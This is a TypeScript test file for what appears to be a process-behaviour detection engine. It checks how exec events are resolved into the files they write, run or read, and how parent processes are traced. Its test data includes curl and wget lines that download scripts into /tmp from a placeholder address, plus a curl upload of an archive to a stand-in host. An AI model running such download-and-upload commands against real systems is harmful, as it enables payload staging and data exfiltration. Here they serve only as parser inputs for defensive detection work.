/**
 * Tries by which keys acts find together, above all which files they mean.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { ActScene, sceneAct } from "../../../testing/act-scene.ts";
import { filesOf, keysOf, programParent, taskParent } from "./step-keys.ts";

function execOf(binary: string, words: string, cwd = "/work") {
  return sceneAct(new ActScene().add({ pid: 1, binary, arguments: words, cwd }), 1);
}

test("a download names the file it writes, in each of the usual ways", () => {
  const cases: readonly (readonly [string, string, readonly string[]])[] = [
    ["/usr/bin/curl", "-fsSL -o x http://203.0.113.5/a", ["/work/x"]],
    ["/usr/bin/curl", "-so /tmp/x http://203.0.113.5/a", ["/tmp/x"]],
    ["/usr/bin/curl", "-s -O http://203.0.113.5/d/a.bin?v=1", ["/work/a.bin"]],
    ["/usr/bin/curl", "--output=/tmp/x http://203.0.113.5/", ["/tmp/x"]],
    ["/usr/bin/curl", "-s http://203.0.113.5/a", []],
    ["/usr/bin/wget", "-q http://203.0.113.5/u -O u.bin", ["/work/u.bin"]],
    ["/usr/bin/wget", "-o log http://203.0.113.5/u.sh", ["/work/u.sh"]],
    ["/usr/bin/curl", "-fsSLo/tmp/x http://203.0.113.5/a", ["/tmp/x"]],
    ["/usr/bin/wget", "203.0.113.5/u.sh", ["/work/u.sh"]],
    ["/usr/bin/wget", "-qO- http://203.0.113.5/u", []],
    ["/usr/bin/wget", "-q -O - http://203.0.113.5/u", []],
  ];
  for (const [binary, words, expected] of cases) {
    assert.deepEqual(filesOf("output", execOf(binary, words)), expected, `${binary} ${words}`);
  }
});

test("a program is its file, and the script that it runs", () => {
  assert.deepEqual(filesOf("program", execOf("/bin/bash", "x.sh -v")), ["/bin/bash", "/work/x.sh"]);
  assert.deepEqual(filesOf("program", execOf("/tmp/a (deleted)", "")), ["/tmp/a"]);
  assert.deepEqual(filesOf("binary", execOf("/bin/bash", "x.sh")), ["/bin/bash"]);
  assert.deepEqual(filesOf("program", execOf("memfd:x", "")), []);
});

test("operands are words that can be files", () => {
  const act = execOf("/usr/bin/chmod", "+x -v a ./b/../c /tmp//d");
  assert.deepEqual(filesOf("operands", act), ["/work/a", "/work/c", "/tmp/d"]);
  const upload = execOf("/usr/bin/curl", "-F file=@/tmp/a.tgz -d @b http://h/x?a=b");
  assert.deepEqual(filesOf("operands", upload), ["/tmp/a.tgz", "/work/b"]);
  const copy = execOf("/bin/dd", "if=/etc/x of=/tmp/y bs=1M");
  assert.deepEqual(filesOf("operands", copy).slice(0, 2), ["/etc/x", "/tmp/y"]);
});

test("an act without a part of the key is no step", () => {
  const act = execOf("/usr/bin/id", "");
  assert.deepEqual(keysOf(["entry", "address"], "path", act), []);
  assert.deepEqual(keysOf(["container", "file"], "output", act), []);
  assert.equal(keysOf(["container", "file"], "binary", act).length, 1);
});

test("the parent of a process is no image of itself", () => {
  const scene = new ActScene();
  const shell = scene.add({ pid: 1, binary: "/bin/bash" });
  const wrapper = scene.add({ pid: 2, binary: "/usr/bin/nohup", parent: shell });
  const program = scene.add({ pid: 2, binary: "/tmp/a", parent: wrapper });
  assert.equal(taskParent(program), shell);
});

test("a fork of a shell counts as the shell", () => {
  const scene = new ActScene();
  const shell = scene.add({ pid: 1, binary: "/bin/bash" });
  const fork = scene.add({ pid: 2, binary: "/bin/bash", parent: shell, execSeen: false });
  const tool = scene.add({ pid: 3, binary: "/usr/bin/curl", parent: fork });
  assert.equal(taskParent(tool), fork);
  assert.equal(programParent(tool), shell);
});

test("parents in a circle end the search", () => {
  const scene = new ActScene();
  const one = scene.add({ pid: 1, binary: "/bin/sh", execSeen: false });
  const other = scene.add({ pid: 1, binary: "/bin/sh", execSeen: false, parent: one });
  one.parent = other;
  assert.equal(taskParent(one), undefined);
});
